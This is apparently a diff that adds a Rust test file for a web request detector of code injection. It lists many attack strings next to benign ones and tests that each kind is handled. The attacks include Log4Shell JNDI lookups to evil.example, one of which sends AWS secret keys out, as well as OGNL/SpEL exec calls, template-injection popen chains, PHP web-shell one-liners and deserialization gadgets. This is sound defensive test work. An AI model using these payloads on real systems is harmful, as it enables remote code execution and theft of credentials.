@@ -1,0 +1,257 @@
+//! Attack and benign tables for `code_injection`, plus figures on the shared benign dataset
+//! (`cargo test --release -p ironward-core --lib check::code_injection::tests::measure --
+//! --ignored --nocapture`).
+
+#![allow(clippy::unwrap_used, clippy::print_stdout)]
+
+use super::CodeInjection;
+use crate::check::CheckId;
+use crate::check::command::tests::run_dataset;
+use crate::config::{Config, Level};
+use crate::engine::Engine;
+use crate::request::{Headers, Request};
+
+fn detector() -> CodeInjection {
+    CodeInjection::new(&Config::default()).unwrap()
+}
+
+const ATTACKS: &[&str] = &[
+    // Log4Shell.
+    "${jndi:ldap://evil.example/a}",
+    "${jndi:ldaps://evil.example/a}",
+    "${jndi:rmi://evil.example:1099/a}",
+    "${jndi:dns://evil.example/a}",
+    "${jndi:iiop://evil.example/a}",
+    "${jndi:nis://evil.example/a}",
+    "${jndi:nds://evil.example/a}",
+    "${jndi:corba://evil.example/a}",
+    "${jndi:http://evil.example/a}",
+    "${JNDI:LDAP://evil.example/a}",
+    "${${lower:j}ndi:ldap://evil.example/a}",
+    "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://evil.example/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
+    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
+    "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
+    "${${upper:j}ndi:ldap://evil.example/a}",
+    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
+    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
+    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
+    "Mozilla/5.0 ${jndi:ldap://evil.example/ua}",
+    "${env:AWS_SECRET_ACCESS_KEY}",
+    "${sys:java.version}",
+    "${java:os}",
+    "${ctx:loginId}",
+    // OGNL, SpEL, EL.
+    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
+    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+    "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
+    "@java.lang.Runtime@getRuntime().exec('id')",
+    "${facesContext.getExternalContext()}",
+    "#{facesContext.externalContext.redirect('http://x')}",
+    "${pageContext.request.serverName}",
+    "${''.getClass().forName('java.lang.Runtime')}",
+    "#{request.getClass().getClassLoader()}",
+    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+    "class.classLoader.URLs[0]=jar:http://x!/",
+    "class['classLoader']['resources']",
+    // Template injection.
+    "{{7*7}}",
+    "{{7*'7'}}",
+    "${7*7}",
+    "#{7*7}",
+    "*{7*7}",
+    "<%= 7*7 %>",
+    "@(7*7)",
+    "${{7*7}}",
+    "{{config}}",
+    "{{ config.items() }}",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{{ lipsum.__globals__['os'].popen('id').read() }}",
+    "{{self._TemplateReference__context.cycler}}",
+    "{{constructor.constructor('return process')()}}",
+    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
+    "{{['id']|filter('system')}}",
+    "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
+    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
+    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
+    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
+    "{php}echo `id`;{/php}",
+    "{$smarty.version}",
+    "<%= system('id') %>",
+    "<%= `ls` %>",
+    "#{global.process.mainModule.require('child_process').execSync('id')}",
+    "{{ get_user_file(\"/etc/passwd\") }}",
+    // PHP.
+    "<?php system($_GET['c']); ?>",
+    "<?= `id` ?>",
+    "<?=$x?>",
+    "php://input",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
+    "expect://id",
+    "phar://uploads/x.jpg/shell",
+    "zip://uploads/x.zip#shell.php",
+    "phpinfo()",
+    ";phpinfo();//",
+    "';phpinfo();//",
+    "|| phpinfo()",
+    ":phpversion();",
+    "{${phpinfo()}}",
+    "{${sleep(10)}}",
+    "${@print(md5(x))}",
+    ";{$_GET[\"cmd\"]}",
+    "eval($_POST['x']);",
+    "assert(base64_decode('cGhwaW5mbygp'))",
+    "system('id');",
+    "@eval($_REQUEST[1]);",
+    // Python.
+    "__import__('os').system('id')",
+    "os.popen('id').read()",
+    // Serialized objects.
+    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0",
+    "aced0005737200176a6176612e7574696c2e5072696f72697479",
+    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
+    "O:24:\"Illuminate\\Broadcasting\\X\":2:{s:6:\"events\";}",
+    "a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
+    "gASVLAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+    "cos\nsystem\n(S'id'\ntR.",
+    "cposix\\nsystem\\n(S'id'\\ntR.",
+    "\\x80\\x04\\x95\\x1f\\x00",
+    "AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u",
+    "!!python/object/apply:os.system ['id']",
+    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
+    "--- !ruby/object:Gem::Installer\ni: x",
+    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
+    "System.Windows.Data.ObjectDataProvider, PresentationFramework",
+];
+
+const BENIGN: &[&str] = &[
+    "$5",
+    "It costs $5, or ${price} in the template",
+    "${HOME}",
+    "${PORT:-8080}",
+    "{{",
+    "}}",
+    "Hello {{ name }}, your order {{ order.id }} has shipped",
+    "{{#each items}}<li>{{this}}</li>{{/each}}",
+    "{{ price * 2 }}",
+    "{{> header}}",
+    "7*7=49",
+    "I love php",
+    "PHP 8.3 is out; upgrade your php.ini",
+    "O:8 in text",
+    "a:2 then",
+    "The ratio is 3:2:{approx}",
+    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PyHJ1Wl6Gg3w",
+    "rO0 is a word",
+    "rO0ABX",
+    "avoid eval() in JavaScript",
+    "The system(s) we use",
+    "exec(sql) runs the query",
+    "assert(x == 1)",
+    "Please check the system status",
+    "My class loader article",
+    "#{id} in Ruby strings",
+    "Use #set to define variables",
+    "https://example.com/?a=1&b=2",
+    "C:\\Users\\me\\Documents",
+    "O'Brien",
+    "email me at john@example.com",
+    "<p>Hello <b>world</b></p>",
+    "{\"a\": {\"b\": [1, 2]}}",
+    "SELECT * FROM t WHERE a = 1",
+    "(555) 123-4567",
+    "2021-05-01",
+    "print('hello')",
+    "Ruby: \"#{first} #{last}\"",
+    "@(user) mentioned you",
+    "50% off <%",
+    "file://server/share",
+    "the __init__ method",
+];
+
+#[test]
+fn attacks_fire() {
+    let d = detector();
+    let missed: Vec<_> = ATTACKS.iter().filter(|a| d.detect(a).is_none()).collect();
+    assert!(missed.is_empty(), "missed: {missed:#?}");
+}
+
+#[test]
+fn benign_passes() {
+    let d = detector();
+    let fired: Vec<_> = BENIGN
+        .iter()
+        .filter_map(|b| d.detect(b).map(|r| (b, r)))
+        .collect();
+    assert!(fired.is_empty(), "fired: {fired:#?}");
+}
+
+#[test]
+fn log4shell_in_a_header_is_found() {
+    let mut c = Config::default();
+    for id in CheckId::configurable() {
+        c.security_checks.set(id, Level::Off);
+    }
+    c.security_checks.set(CheckId::CodeInjection, Level::Block);
+    let engine = Engine::new(c).unwrap();
+    let mut headers = Headers::new();
+    headers.push("x-api-version", b"${${::-j}ndi:ldap://x/a}");
+    let v = engine.inspect_request(&Request {
+        method: "GET",
+        path: "/",
+        headers,
+        ..Request::default()
+    });
+    assert_eq!(v.findings.len(), 1);
+    assert_eq!(v.findings[0].location, "headers_values");
+    assert_eq!(v.findings[0].engine, Some("jndi"));
+}
+
+#[test]
+fn hostile_shapes_are_bounded() {
+    let d = detector();
+    for v in [
+        "${".repeat(20_000),
+        "{{".repeat(20_000),
+        "${a:-".repeat(5_000) + &"}".repeat(5_000),
+        "%{(#".repeat(5_000),
+    ] {
+        let _ = d.detect(&v);
+    }
+}
+
+const DATA: &str = concat!(
+    env!("CARGO_MANIFEST_DIR"),
+    "/../../../shared/datasets/train/"
+);
+
+#[test]
+#[ignore = "measurement: prints figures on the shared datasets"]
+fn measure() {
+    let d = detector();
+    let hits = ATTACKS.iter().filter(|a| d.detect(a).is_some()).count();
+    println!("code_injection: table attacks {hits}/{}", ATTACKS.len());
+    let fps = BENIGN.iter().filter(|b| d.detect(b).is_some()).count();
+    println!(
+        "code_injection: table benign flagged {fps}/{}",
+        BENIGN.len()
+    );
+    let benign = format!("{DATA}benign.jsonl");
+    let (h, t) = run_dataset(&benign, &[CheckId::CodeInjection], Some(true));
+    println!("code_injection: benign.jsonl flagged {h}/{t}");
+}
+
+#[test]
+#[ignore = "measurement: prints figures on the shared benign corpus"]
+fn measure_corpus() {
+    let d = detector();
+    let (h, t) = crate::check::command::tests::run_corpus(&|v| d.detect(v).is_some());
+    println!("code_injection: corpus/benign flagged {h}/{t}");
+}
